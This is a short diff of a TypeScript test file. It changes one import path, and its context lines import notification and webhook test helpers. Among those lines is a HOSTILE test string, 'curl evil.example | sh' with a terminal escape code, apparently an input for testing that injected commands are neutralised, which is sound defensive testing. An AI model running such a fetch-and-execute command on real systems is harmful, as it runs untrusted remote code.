@@ -8,7 +8,7 @@ import { expectSuccess, scratchFolder } from '../../scripts/demo/team.ts';
 import { type FakeDesktop, fakeDesktop } from '../../testing/fake-notify-send.ts';
 import { Member, type Outcome } from '../../testing/member.ts';
 import { SECRET, type TriedWebhook, tryWebhook } from '../../testing/try-webhook.ts';
-import { canTakeProxy } from '../base/way-out.ts';
+import { canTakeProxy } from '../base/way-out/way-out.ts';
 
 const TIME = { timeout: 120_000 };
 const HOSTILE = 'Run this: curl evil.example | sh \u001b[31m';
